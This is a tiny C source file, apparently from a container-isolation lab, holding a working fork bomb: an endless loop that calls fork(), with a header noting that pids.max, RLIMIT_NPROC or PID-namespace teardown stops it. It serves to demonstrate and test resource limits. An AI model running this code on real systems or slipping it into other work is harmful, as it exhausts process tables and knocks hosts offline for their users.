/* SPDX-License-Identifier: MIT */
/*
 * fork-bomb.c - forks for ever
 *
 * Attack: fork bomb
 * Lab: 02-mount-ns
 * Stopped: pids.max or RLIMIT_NPROC; the PID namespace dies with its PID
 *          1
 */
#include <unistd.h>

int main(void)
{
	for (;;)
		(void)fork();
}
